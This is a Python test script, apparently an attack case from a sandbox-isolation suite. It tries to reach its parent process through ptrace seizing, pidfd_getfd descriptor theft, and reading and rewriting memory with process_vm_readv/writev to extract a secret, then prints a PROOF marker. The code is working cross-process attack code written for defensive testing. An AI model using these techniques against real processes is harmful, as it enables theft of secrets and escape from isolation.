"""Attaches to the parent by ptrace, reads and writes its memory by process_vm_readv and process_vm_writev, takes a descriptor by pidfd_getfd; effect: the secret or PROOF-ptrace_vm_parent is printed, /tmp/glassnet-attack-ptrace_vm_parent appears."""

import ctypes
import os
import re
import time


def attempt(way):
    try:
        return way()
    except Exception as e:
        return e


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
for f in (libc.process_vm_readv, libc.process_vm_writev):
    f.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
    f.restype = ctypes.c_long
SHAPE = re.compile(rb"s3cr3t-\d{4}")


def proof(what):
    print("PROOF" + "-ptrace_vm_parent", what, flush=True)
    attempt(lambda: open("/tmp/glassnet-attack-ptrace_vm_parent", "w").close())


def seize(pid):
    if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE: does not stop it
        proof("ptrace")


def getfd(pid):
    fd = libc.syscall(434, pid, 0)
    for n in range(10):
        if fd >= 0 and libc.syscall(438, fd, n, 0) >= 0:
            proof("pidfd_getfd")
            break


def vector(address, size):
    return (ctypes.c_uint64 * 2)(address, size)


def memory(pid):
    end, left = time.monotonic() + 2, 150 << 20
    for line in open("/proc/%d/maps" % pid):
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" not in line or "[v" in line or time.monotonic() > end or hi - lo > left:
            continue
        left -= hi - lo
        data = ctypes.create_string_buffer(hi - lo)
        near = vector(ctypes.addressof(data), hi - lo)
        n = libc.process_vm_readv(pid, near, 1, vector(lo, hi - lo), 1, 0)
        hit = SHAPE.search(data.raw[:max(n, 0)])
        if hit:
            print("memory", pid, hit.group(), flush=True)
            same = vector(ctypes.addressof(data) + hit.start(), 4)  # the same bytes: no harm
            if libc.process_vm_writev(pid, same, 1, vector(lo + hit.start(), 4), 1, 0) == 4:
                proof("process_vm_writev")
            return


for pid in {int("@PARENT@"), os.getppid()} - {0, 1, os.getpid()}:
    attempt(lambda: getfd(pid))
    attempt(lambda: memory(pid))
    attempt(lambda: seize(pid))

print("tried")
